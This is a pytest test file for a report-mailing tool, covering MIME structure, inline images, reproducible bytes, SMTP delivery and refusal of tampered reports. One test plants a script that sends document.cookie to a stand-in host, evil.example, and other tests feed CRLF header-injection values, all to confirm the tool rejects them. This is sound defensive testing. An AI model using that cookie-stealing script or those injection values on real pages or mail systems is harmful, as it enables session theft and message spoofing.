"""Tests for mailing a run: MIME layout, inline images, reproducible bytes, a real SMTP server.

The run is the synthetic one of ``tests/synthetic.py`` with its HTML report
rendered and a small stand-in PDF; the server is aiosmtpd on 127.0.0.1.
"""

from __future__ import annotations

import datetime as dt
import email
import email.policy
import email.utils
import re
import shutil
import smtplib
import socket
import ssl
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import AuthResult, Envelope, LoginPassword

from reportgen.artifacts import layout
from reportgen.artifacts import manifest as manifest_mod
from reportgen.artifacts.metrics import Metrics, read_metrics
from reportgen.cli.main import main
from reportgen.core import fileio
from reportgen.core.errors import ConfigError, RunDirError
from reportgen.core.text import pct
from reportgen.report import mail, render
from reportgen.report.run_page import build_context
from tests.conftest import CliRunner
from tests.synthetic import make_run

PDF = b"%PDF-1.4\n% a stand-in for report.pdf\n%%EOF\n"
SENDER = "Reports <reports@example.org>"
TO = ["alice@example.org", "bob@example.org"]


# --------------------------------------------------------------------------- a rendered run


@pytest.fixture(scope="module")
def run_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The synthetic run with report.html rendered and a stand-in report.pdf."""
    root = make_run(tmp_path_factory.mktemp("mail") / "run")
    html = render.render_html(build_context(root, environ={}))
    fileio.write_atomic(root / "report.html", html)
    fileio.write_atomic(root / "report.pdf", PDF)
    manifest = manifest_mod.read_manifest(root)
    artifacts = manifest_mod.artifact_hashes(root)
    manifest.model_copy(update={"artifacts": artifacts}).write(root / layout.MANIFEST)
    return root


@pytest.fixture(scope="module")
def message(run_dir: Path) -> EmailMessage:
    return mail.build_message(run_dir, to=TO, sender=SENDER, subject=None, environ={})


def _parse(data: bytes) -> EmailMessage:
    parsed = email.message_from_bytes(data, policy=email.policy.default)
    assert isinstance(parsed, EmailMessage)
    return parsed


def _html_part(message: EmailMessage) -> str:
    body = message.get_body(preferencelist=("html",))
    assert body is not None
    return str(body.get_content())


def _text_part(message: EmailMessage) -> str:
    body = message.get_body(preferencelist=("plain",))
    assert body is not None
    return str(body.get_content())


def _metrics(run_dir: Path) -> Metrics:
    return read_metrics(run_dir, manifest_mod.read_manifest(run_dir))


def check_delivered(parsed: EmailMessage, run_dir: Path) -> None:
    """Assert what a recipient must see: inline images, the PDF, the summary in plain text."""
    assert parsed.get_content_type() == "multipart/mixed"
    html = _html_part(parsed)
    assert "data:" not in html
    cids = set(re.findall(r'src="cid:([^"]+)"', html))
    assert cids
    inline = {
        str(part["Content-ID"]).strip().strip("<>"): part  # a long one is folded
        for part in parsed.walk()
        if part.get("Content-ID") is not None
    }
    assert cids == set(inline)
    for part in inline.values():
        assert part.get_content_type() == "image/png"
        assert part.get_content_disposition() == "inline"
        assert part.get_content().startswith(b"\x89PNG")
    related = [p for p in parsed.walk() if p.get_content_type() == "multipart/related"]
    assert len(related) == 1

    attachments = list(parsed.iter_attachments())
    assert [a.get_filename() for a in attachments] == ["report.pdf"]
    assert attachments[0].get_content_type() == "application/pdf"
    assert attachments[0].get_content() == (run_dir / "report.pdf").read_bytes()

    text = " ".join(_text_part(parsed).split())  # undo the wrapping
    for name, model in _metrics(run_dir).models.items():
        assert f"{pct(model.test_accuracy)} for the {name} model" in text
        assert model.diagnosis.summary in text


# --------------------------------------------------------------------------- the message


def test_message_layout_and_content(message: EmailMessage, run_dir: Path) -> None:
    parsed = _parse(message.as_bytes())
    check_delivered(parsed, run_dir)
    alternative = next(parsed.iter_parts())
    assert alternative.get_content_type() == "multipart/alternative"
    assert [p.get_content_type() for p in alternative.iter_parts()] == [
        "text/plain",
        "multipart/related",
    ]
    inline_names = {
        part.get_filename() for part in parsed.walk() if part.get_content_disposition() == "inline"
    }
    assert {"compare_curves.png", "baseline_confusion.png"} <= inline_names


def test_headers_are_derived_from_the_run(message: EmailMessage, run_dir: Path) -> None:
    models = _metrics(run_dir).models
    assert message["Subject"] == (
        f"reportgen: synthetic — baseline {pct(models['baseline'].test_accuracy)}, "
        f"regularized {pct(models['regularized'].test_accuracy)}"
    )
    assert message["From"] == SENDER
    assert message["To"] == ", ".join(TO)
    assert message["Date"] == "Fri, 01 Mar 2024 00:00:00 +0000"  # run.date of the synthetic run
    assert re.fullmatch(r"<[0-9a-f]{32}@example\.org>", message["Message-ID"])


def test_plain_text_summary(message: EmailMessage, run_dir: Path) -> None:
    text = _text_part(message)
    significance = _metrics(run_dir).significance
    assert significance is not None
    assert text.startswith("Synthetic MNIST report\nRun synthetic, seed 7, 2024-03-01\n")
    assert significance.verdict in " ".join(text.split())
    assert "95% CI" in text and "Train–test gap" in text
    assert all(len(line) <= mail.WRAP for line in text.splitlines())


def test_eml_bytes_are_reproducible(run_dir: Path, tmp_path: Path) -> None:
    paths = [
        mail.write_eml(
            mail.build_message(run_dir, to=TO, sender=SENDER, subject=None, environ={}),
            tmp_path / f"{i}.eml",
        )
        for i in range(2)
    ]
    first, second = (path.read_bytes() for path in paths)
    assert first == second
    assert b"\r\n" in first and b"\n" not in first.replace(b"\r\n", b"")
    check_delivered(_parse(first), run_dir)
    other = mail.build_message(run_dir, to=["carol@example.org"], sender=SENDER, environ={})
    assert other["Message-ID"] != _parse(first)["Message-ID"]


def test_boundaries_are_set_on_every_multipart(message: EmailMessage) -> None:
    boundaries = [part.get_boundary() for part in message.walk() if part.is_multipart()]
    assert len(boundaries) == 3 and len(set(boundaries)) == 3
    assert all(b is not None and b.startswith("=_reportgen_") for b in boundaries)


def test_html_with_inline_images_restores_the_report(message: EmailMessage, run_dir: Path) -> None:
    page = mail.html_with_inline_images(_parse(message.as_bytes()))
    assert "cid:" not in page
    original = (run_dir / "report.html").read_text(encoding="utf-8")
    assert page.replace("\r\n", "\n") == original


def test_inline_images_share_a_part_for_equal_images() -> None:
    png = "data:image/png;base64,iVBORw0KGgo="
    html = f'<img src="{png}"><img src="{png}"><div style="background:url({png})"></div>'
    new_html, parts = mail.inline_images(html, known={png: "logo.png"}, domain="example.org")
    assert len(parts) == 1
    cid, media_type, filename, data = parts[0]
    assert (media_type, filename, data) == ("image/png", "logo.png", b"\x89PNG\r\n\x1a\n")
    assert new_html.count(f"cid:{cid}") == 3 and "data:" not in new_html


def test_explicit_subject(run_dir: Path) -> None:
    built = mail.build_message(run_dir, to=TO[:1], sender=SENDER, subject="Weekly run", environ={})
    assert built["Subject"] == "Weekly run"


@pytest.mark.parametrize(
    ("to", "sender", "subject", "match"),
    [
        ([], SENDER, None, "at least one recipient"),
        (["not an address"], SENDER, None, "'not an address' is not one email address"),
        (["a@example.org, b@example.org"], SENDER, None, "is not one email address"),
        (["a@example.org\r\nBcc: x@example.org"], SENDER, None, "line break"),
        (TO, "nobody", None, "--from: 'nobody'"),
        (TO, SENDER, "two\nlines", "--subject: .* line break"),
        (TO, SENDER, "a\x0bb", r"--subject: 'a\\x0bb' contains a line break \(U\+000B\)"),
        (TO, SENDER, "a\u2028b", r"--subject: .* line break \(U\+2028\)"),
        (TO, SENDER, "a\x1bb", r"--subject: .* the control character U\+001B"),
        (TO, SENDER, "a\udcffb", r"--subject: .* bytes that are not UTF-8"),
        (["x\x85@example.org"], SENDER, None, r"--to: .* line break \(U\+0085\)"),
        (["\udcff@example.org"], SENDER, None, r"--to: .* bytes that are not UTF-8"),
        (TO, "Reports <r@example.org>\x0c", None, r"--from: .* line break \(U\+000C\)"),
    ],
)
def test_bad_addressing_is_refused(
    run_dir: Path, to: list[str], sender: str, subject: str | None, match: str
) -> None:
    with pytest.raises(ConfigError, match=match) as caught:
        mail.build_message(run_dir, to=to, sender=sender, subject=subject, environ={})
    assert len(str(caught.value).splitlines()) == 1


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("--subject", "a\x0bb"),
        ("--subject", "a\x0cb"),
        ("--subject", "a\x85b"),
        ("--subject", "a\u2028b"),
        ("--subject", "a\u2029b"),
        ("--subject", "a\x00b"),
        ("--subject", "a\udcffb"),  # the bytes b"a\xffb" on a command line
        ("--to", "x\x0b@example.org"),
        ("--from", "x@example.org\u2029"),
    ],
)
def test_unsafe_header_on_the_command_line_exits_2_with_one_line(
    run_dir: Path, tmp_path: Path, option: str, value: str, capsys: pytest.CaptureFixture[str]
) -> None:
    eml = tmp_path / "out.eml"
    args = ["email", str(run_dir), "--eml-out", str(eml), option, value]
    if option != "--to":
        args += ["--to", TO[0]]
    assert main(args) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith(f"reportgen: error: {option}: ")
    assert not eml.exists()


def test_refuses_a_run_without_its_report(run_dir: Path, tmp_path: Path) -> None:
    copy = Path(shutil.copytree(run_dir, tmp_path / "copy"))
    (copy / "report.pdf").unlink()
    with pytest.raises(RunDirError, match=r"report\.pdf: missing.*refusing to mail a tampered"):
        mail.build_message(copy, to=TO, sender=SENDER, environ={})
    manifest = manifest_mod.read_manifest(copy)  # a run made without a PDF does not list one
    artifacts = {rel: e for rel, e in manifest.artifacts.items() if rel != "report.pdf"}
    assert len(artifacts) == len(manifest.artifacts) - 1
    manifest.model_copy(update={"artifacts": artifacts}).write(copy / layout.MANIFEST)
    with pytest.raises(RunDirError, match=r"report\.pdf is not listed .* render the report"):
        mail.build_message(copy, to=TO, sender=SENDER, environ={})
    with pytest.raises(RunDirError, match="not a reportgen run"):
        mail.build_message(tmp_path, to=TO, sender=SENDER, environ={})


def test_refuses_a_report_that_differs_from_the_manifest(run_dir: Path, tmp_path: Path) -> None:
    copy = Path(shutil.copytree(run_dir, tmp_path / "copy"))
    manifest = manifest_mod.read_manifest(copy)
    artifacts = manifest_mod.artifact_hashes(copy)
    manifest.model_copy(update={"artifacts": artifacts}).write(copy / layout.MANIFEST)
    (copy / "report.pdf").write_bytes(PDF + b"changed")
    with pytest.raises(RunDirError, match=r"report\.pdf: SHA-256 .*tampered"):
        mail.build_message(copy, to=TO, sender=SENDER, environ={})


def _rehash(root: Path) -> None:
    manifest = manifest_mod.read_manifest(root)
    artifacts = manifest_mod.artifact_hashes(root)
    manifest.model_copy(update={"artifacts": artifacts}).write(root / layout.MANIFEST)


def test_an_edited_report_is_not_mailed(run_dir: Path, cli: CliRunner, tmp_path: Path) -> None:
    copy = Path(shutil.copytree(run_dir, tmp_path / "copy"))
    html = (copy / "report.html").read_text(encoding="utf-8")
    edited = html.replace(
        "</body>",
        '<script>fetch("https://evil.example/?"+document.cookie)</script>'
        '<img src="https://evil.example/pixel.png"></body>',
    )
    assert edited != html
    (copy / "report.html").write_text(edited, encoding="utf-8")
    _rehash(copy)  # whoever edits the report can rehash the manifest
    eml = tmp_path / "out.eml"
    args = ["email", str(copy), "--to", TO[0], "--eml-out", str(eml)]
    done = cli(*args)
    assert done.returncode == 2, done.stderr
    assert done.stderr == (
        f"reportgen: error: {copy / 'report.html'}: not what reportgen renders from the run's "
        "artifacts with the packaged templates (edited after rendering?); refusing to mail it: "
        f"run `reportgen render {copy}` first, or pass --templates DIR if it was rendered with "
        "other templates\n"
    )
    assert not eml.exists()
    # Rendered again by reportgen, the same run is mailed, without the edit.
    assert main(["--quiet", "render", str(copy)]) == 0
    assert main(["--quiet", *args]) == 0
    mailed = _html_part(_parse(eml.read_bytes()))
    assert "evil.example" not in mailed and "<script" not in mailed


def test_a_report_rendered_with_other_templates_needs_them(run_dir: Path, tmp_path: Path) -> None:
    copy = Path(shutil.copytree(run_dir, tmp_path / "copy"))
    templates = tmp_path / "templates"
    (templates / "css").mkdir(parents=True)
    (templates / "css" / "custom.css").write_text("h1 { color: #123456; }\n")
    assert main(["--quiet", "render", str(copy), "--templates", str(templates)]) == 0
    eml = tmp_path / "out.eml"
    args = ["email", str(copy), "--to", TO[0], "--eml-out", str(eml)]
    with pytest.raises(RunDirError, match=r"report\.html: not what reportgen renders .* packaged"):
        mail.build_message(copy, to=TO, sender=SENDER)
    assert main(["--quiet", *args, "--templates", str(templates)]) == 0
    assert "#123456" in _html_part(_parse(eml.read_bytes()))


# --------------------------------------------------------------------------- a real SMTP server


def free_port() -> int:
    """Return a TCP port nobody listens on (Controller(port=0) cannot report the one it got)."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


class Mailbox:
    """aiosmtpd handler: keeps each delivered envelope, refuses some recipients with 550."""

    def __init__(self, refuse: frozenset[str] = frozenset()) -> None:
        self.refuse = refuse
        self.envelopes: list[Envelope] = []

    async def handle_RCPT(
        self, server: Any, session: Any, envelope: Envelope, address: str, options: Any
    ) -> str:
        if address in self.refuse:
            return "550 5.1.1 No such mailbox here"
        envelope.rcpt_tos.append(address)
        return "250 OK"

    async def handle_DATA(self, server: Any, session: Any, envelope: Envelope) -> str:
        self.envelopes.append(envelope)
        return "250 Message accepted for delivery"


def _authenticate(server: Any, session: Any, envelope: Any, mechanism: str, data: Any) -> Any:
    ok = isinstance(data, LoginPassword) and (data.login, data.password) == (b"ann", b"s3cret")
    return AuthResult(success=ok, handled=False)  # handled=False: the server replies 535


@pytest.fixture
def smtp_server(request: pytest.FixtureRequest) -> Iterator[tuple[int, Mailbox]]:
    """A local SMTP server; parametrize indirectly with ``{"refuse": ..., "auth": True}``."""
    options = getattr(request, "param", {})
    handler = Mailbox(frozenset(options.get("refuse", ())))
    extra: dict[str, Any] = {}
    if options.get("auth"):
        extra = {"authenticator": _authenticate, "auth_require_tls": False}
    port = free_port()
    controller = Controller(handler, hostname="127.0.0.1", port=port, **extra)
    controller.start()
    try:
        yield port, handler
    finally:
        controller.stop()


def test_send_delivers_the_report(
    smtp_server: tuple[int, Mailbox], message: EmailMessage, run_dir: Path
) -> None:
    port, mailbox = smtp_server
    sent_at = dt.datetime(2026, 11, 30, 9, 15, 0, tzinfo=dt.UTC)
    mail.send(message, host="127.0.0.1", port=port, timeout=10, now=sent_at)
    [envelope] = mailbox.envelopes
    assert envelope.mail_from == "reports@example.org"
    assert envelope.rcpt_tos == TO
    assert isinstance(envelope.content, bytes)
    received = _parse(envelope.content)
    check_delivered(received, run_dir)
    assert received["Message-ID"] == message["Message-ID"]
    # Sent mail is dated when it is sent; the message built from the run keeps its date.
    assert received["Date"] == "Mon, 30 Nov 2026 09:15:00 +0000"
    assert message["Date"] == "Fri, 01 Mar 2024 00:00:00 +0000"


def test_sent_mail_is_dated_by_the_clock(
    smtp_server: tuple[int, Mailbox], message: EmailMessage
) -> None:
    port, mailbox = smtp_server
    before = dt.datetime.now(dt.UTC).replace(microsecond=0)
    mail.send(message, host="127.0.0.1", port=port, timeout=10)
    after = dt.datetime.now(dt.UTC)
    date = email.utils.parsedate_to_datetime(_parse(mailbox.envelopes[0].content)["Date"])
    assert before <= date <= after


@pytest.mark.parametrize("smtp_server", [{"refuse": ["bob@example.org"]}], indirect=True)
def test_refused_recipient_is_named(
    smtp_server: tuple[int, Mailbox], message: EmailMessage
) -> None:
    port, mailbox = smtp_server
    with pytest.raises(mail.MailError, match=r"refused recipient bob@example\.org \(550 5\.1\.1"):
        mail.send(message, host="127.0.0.1", port=port, timeout=10)
    assert [e.rcpt_tos for e in mailbox.envelopes] == [["alice@example.org"]]


@pytest.mark.parametrize("smtp_server", [{"refuse": TO}], indirect=True)
def test_all_recipients_refused(smtp_server: tuple[int, Mailbox], message: EmailMessage) -> None:
    port, mailbox = smtp_server
    with pytest.raises(mail.MailError, match=r"refused recipient alice@example\.org .*bob@"):
        mail.send(message, host="127.0.0.1", port=port, timeout=10)
    assert mailbox.envelopes == []


@pytest.mark.parametrize("smtp_server", [{"auth": True}], indirect=True)
def test_login(smtp_server: tuple[int, Mailbox], message: EmailMessage) -> None:
    port, mailbox = smtp_server
    mail.send(message, host="127.0.0.1", port=port, user="ann", password="s3cret", timeout=10)
    assert len(mailbox.envelopes) == 1
    with pytest.raises(mail.MailError, match="authentication failed for user ann: 535") as caught:
        mail.send(message, host="127.0.0.1", port=port, user="ann", password="wrong!", timeout=10)
    assert "wrong!" not in str(caught.value)
    assert len(mailbox.envelopes) == 1


def test_closed_port_is_unreachable(message: EmailMessage) -> None:
    port = free_port()
    with pytest.raises(mail.MailError, match=rf"127\.0\.0\.1:{port} is unreachable: .*refused"):
        mail.send(message, host="127.0.0.1", port=port, timeout=5)


def test_silent_server_times_out(message: EmailMessage) -> None:
    with socket.socket() as listener:  # accepts connections but never greets
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        port = listener.getsockname()[1]
        with pytest.raises(mail.MailError, match=r"unreachable: no answer within 0\.3 s"):
            mail.send(message, host="127.0.0.1", port=port, timeout=0.3)


def test_tls_to_a_plain_server_fails_clearly(
    smtp_server: tuple[int, Mailbox], message: EmailMessage
) -> None:
    port, mailbox = smtp_server
    with pytest.raises(mail.MailError, match="TLS failed"):
        mail.send(message, host="127.0.0.1", port=port, security="ssl", timeout=5)
    with pytest.raises(mail.MailError, match="does not support STARTTLS"):
        mail.send(message, host="127.0.0.1", port=port, security="starttls", timeout=5)
    assert mailbox.envelopes == []


@pytest.mark.parametrize(
    ("error", "match"),
    [
        (socket.gaierror(-2, "Name or service not known"), "unreachable: host name not found"),
        (ssl.SSLCertVerificationError(1, "certificate verify failed"), "TLS failed"),
        (smtplib.SMTPConnectError(554, b"go away"), "unreachable: 554 go away"),
        (smtplib.SMTPServerDisconnected("gone"), "closed the connection"),
        (OSError(101, "Network is unreachable"), "unreachable: Network is unreachable"),
    ],
)
def test_connection_failures_are_one_line(
    monkeypatch: pytest.MonkeyPatch, message: EmailMessage, error: Exception, match: str
) -> None:
    def fail(*args: Any, **kwargs: Any) -> None:
        raise error

    monkeypatch.setattr(mail, "_connect", fail)
    with pytest.raises(mail.MailError, match=match) as caught:
        mail.send(message, host="mail.example.org", port=25)
    assert "\n" not in str(caught.value) and "mail.example.org:25" in str(caught.value)


@pytest.mark.parametrize(
    ("options", "match"),
    [
        ({"security": "tls"}, "must be one of none, starttls, ssl; got 'tls'"),
        ({"user": "ann"}, "both a user and a password"),
        ({"password": "x"}, "both a user and a password"),
    ],
)
def test_bad_send_options(message: EmailMessage, options: dict[str, Any], match: str) -> None:
    with pytest.raises(ConfigError, match=match):
        mail.send(message, host="127.0.0.1", port=free_port(), **options)


def test_password_from_env() -> None:
    assert mail.password_from_env("SMTP_PASSWORD", {"SMTP_PASSWORD": "s3cret"}) == "s3cret"
    with pytest.raises(ConfigError, match="SMTP_PASSWORD is not set or empty") as caught:
        mail.password_from_env("SMTP_PASSWORD", {"SMTP_PASSWORD": ""})
    assert "s3cret" not in str(caught.value)
